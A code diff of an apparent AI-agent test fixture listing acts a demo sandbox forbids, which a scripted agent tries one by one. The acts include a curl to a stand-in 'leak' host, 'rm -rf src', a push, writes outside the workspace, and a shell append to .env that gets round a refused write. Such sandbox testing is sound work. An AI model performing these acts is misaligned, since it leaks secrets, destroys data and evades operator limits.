@@ -1,28 +1,44 @@
 import { HONEST } from "./agent-ground.ts";
-import type { Script } from "./model/script.ts";
+import type { Script, Wish } from "./model/script.ts";
 
-/** Everything that the demo contract forbids, tried one after the other; what is refused once is tried by the shell. */
-export const FORBIDDEN: Script = {
-  turns: [
-    {
-      text: "The environment file.",
-      wishes: [{ do: "write", path: "/workspace/.env", content: "TOKEN=abc\n" }],
-    },
-    {
-      text: "The pipeline.",
-      wishes: [{ do: "write", path: "/workspace/.github/workflows/x.yml", content: "on: push\n" }],
-    },
-    { text: "Push.", wishes: [{ do: "bash", command: "git push origin main" }] },
-    { text: "Call out.", wishes: [{ do: "bash", command: "curl -sS -m 3 http://192.0.2.1/leak" }] },
-    {
-      text: "Outside.",
-      wishes: [{ do: "write", path: "/var/escape.txt", content: "outside\n" }],
-    },
-    { text: "By the shell.", wishes: [{ do: "bash", command: "echo SNEAK=1 >> .env" }] },
-    { text: "Remove.", wishes: [{ do: "bash", command: "rm -rf src" }] },
-    { text: "That was all." },
-  ],
-};
+/** One thing that the demo contract forbids, and what of it must be told afterwards. */
+export interface ForbiddenAct {
+  readonly is: string;
+  readonly wish: Wish;
+  readonly told: string;
+}
+
+/** What is refused once is tried again by the shell: a write by a line that appends. */
+export const FORBIDDEN_ACTS: readonly ForbiddenAct[] = [
+  {
+    is: "writes the environment file",
+    wish: { do: "write", path: "/workspace/.env", content: "TOKEN=abc\n" },
+    told: ".env",
+  },
+  {
+    is: "writes a pipeline",
+    wish: { do: "write", path: "/workspace/.github/workflows/x.yml", content: "on: push\n" },
+    told: ".github/workflows/x.yml",
+  },
+  { is: "pushes", wish: { do: "bash", command: "git push origin main" }, told: "git push origin main" },
+  { is: "calls out", wish: { do: "bash", command: "curl -sS -m 3 http://192.0.2.1/leak" }, told: "192.0.2.1/leak" },
+  {
+    is: "writes outside",
+    wish: { do: "write", path: "/var/escape.txt", content: "outside\n" },
+    told: "escape.txt",
+  },
+  {
+    is: "goes round by the shell",
+    wish: { do: "bash", command: "echo SNEAK=1 >> .env" },
+    told: "echo SNEAK=1 >> .env",
+  },
+  { is: "removes the sources", wish: { do: "bash", command: "rm -rf src" }, told: "rm -rf src" },
+];
+
+/** Tries some acts, one after the other. */
+export const tries = (acts: readonly ForbiddenAct[]): Script => ({
+  turns: [...acts.map(({ is, wish }) => ({ text: `Now: ${is}.`, wishes: [wish] })), { text: "That was all." }],
+});
 
 const withFaults = (faults: readonly Script["turns"][number]["fault"][]): Script => ({
   turns: HONEST.turns.map((turn, at) => {
